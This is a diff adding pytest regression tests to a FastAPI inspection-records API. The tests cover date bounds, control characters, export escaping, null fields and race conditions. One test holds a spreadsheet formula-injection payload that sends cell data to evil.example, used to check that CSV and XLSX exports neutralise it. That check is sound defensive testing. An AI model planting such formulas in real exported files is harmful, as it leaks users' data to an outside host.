@@ -3,6 +3,7 @@
 import pytest
 from fastapi.testclient import TestClient
 
+from tests.concurrency import run_together
 from tests.factories import World
 
 
@@ -99,3 +100,122 @@ def test_validation_errors_do_not_echo_the_input(client: TestClient, world: Worl
     )
     assert response.status_code == 422
     assert "secret-but-short" not in response.text
+
+
+# --- found by review and fuzzing ----------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("method", "path", "body"),
+    [
+        ("post", "/api/v1/inspections", {"inspected_at": "9999-12-31T23:00:00-05:00"}),
+        ("post", "/api/v1/inspections", {"inspected_at": "0001-01-01T00:00:00+05:00"}),
+        ("get", "/api/v1/audit?from=0001-01-01T00:00:00%2B05:00", None),
+        ("get", "/api/v1/audit?to=9999-12-31T23:00:00-02:00", None),
+        ("get", "/api/v1/stats?as_of=0001-01-01", None),
+        ("get", "/api/v1/overdue?as_of=9999-12-31", None),
+        ("get", "/api/v1/exports/overdue.csv?as_of=0001-01-01", None),
+    ],
+)
+def test_dates_at_the_ends_of_the_calendar_are_422(
+    client: TestClient, world: World, method: str, path: str, body: dict | None
+) -> None:
+    if body is not None:
+        from tests.factories import report_body
+
+        body = report_body(world.facility_a, **body)
+    response = client.request(method, path, json=body, headers=world.headers("admin"))
+    assert response.status_code == 422, response.text
+
+
+@pytest.mark.parametrize("text", ["bad\x01name", "a\x1bb", "del\x7f"])
+def test_control_characters_are_refused(client: TestClient, world: World, text: str) -> None:
+    response = client.patch(
+        f"/api/v1/facilities/{world.facility_a.id}",
+        json={"custodian_name": text},
+        headers=world.headers("township"),
+    )
+    assert response.status_code == 422
+    assert "control characters" in response.json()["detail"][0]["msg"]
+    fine = client.patch(
+        f"/api/v1/facilities/{world.facility_a.id}",
+        json={"description": "第一行\n第二行\t缩进"},
+        headers=world.headers("township"),
+    )
+    assert fine.status_code == 200
+
+
+def test_exports_survive_control_characters_stored_before_they_were_refused(
+    client: TestClient, world: World, db
+) -> None:
+    from app.models import Facility
+
+    with db.begin() as session:
+        facility = session.get(Facility, world.facility_a.id)
+        facility.custodian_name = "旧\x01数据"
+        facility.next_due_on = facility.registered_on
+    response = client.get(
+        "/api/v1/exports/overdue.xlsx",
+        params={"as_of": "2100-01-01"},
+        headers=world.headers("county"),
+    )
+    assert response.status_code == 200
+
+
+def test_typed_formulas_are_exported_as_text(client: TestClient, world: World, db) -> None:
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    from app.models import Facility
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
+    client.patch(
+        f"/api/v1/facilities/{world.facility_a.id}",
+        json={"village": formula, "custodian_name": "+86 138"},
+        headers=world.headers("township"),
+    )
+    with db.begin() as session:
+        session.get(Facility, world.facility_a.id).next_due_on = session.get(
+            Facility, world.facility_a.id
+        ).registered_on
+    params = {"as_of": "2100-01-01", "township_id": world.township_a.id}
+    book = client.get(
+        "/api/v1/exports/overdue.xlsx", params=params, headers=world.headers("county")
+    )
+    cell = load_workbook(io.BytesIO(book.content)).active["D2"]
+    assert (cell.value, cell.data_type) == (formula, "s")
+    text = client.get("/api/v1/exports/overdue.csv", params=params, headers=world.headers("county"))
+    row = list(csv.reader(io.StringIO(text.content.decode("utf-8-sig"))))[1]
+    assert row[3] == "'" + formula
+    assert row[9] == "'+86 138"
+
+
+@pytest.mark.parametrize(
+    ("path", "body", "field"),
+    [
+        ("/api/v1/users/{county}", {"full_name": None}, "full_name"),
+        ("/api/v1/townships/{township}", {"name": None}, "name"),
+        ("/api/v1/townships/{township}", {"code": None}, "code"),
+    ],
+)
+def test_nulls_for_required_fields_are_422(
+    client: TestClient, world: World, path: str, body: dict, field: str
+) -> None:
+    url = path.format(county=world.county.id, township=world.township_a.id)
+    response = client.patch(url, json=body, headers=world.headers("admin"))
+    assert response.status_code == 422
+    assert response.json()["detail"][0]["loc"] == ["body", field]
+
+
+def test_concurrent_registrations_of_one_code_give_one_201_and_409s(app, world: World) -> None:
+    body = {
+        "code": "RACE-1", "name": "并发", "kind": "grave", "township_id": world.township_a.id,
+        "longitude": 112.2, "latitude": 35.7,
+    }  # fmt: skip
+    headers = world.headers("county")
+    results = run_together(
+        app, [lambda client: client.post("/api/v1/facilities", json=body, headers=headers)] * 6
+    )
+    assert sorted(r.status_code for r in results) == [201] + [409] * 5
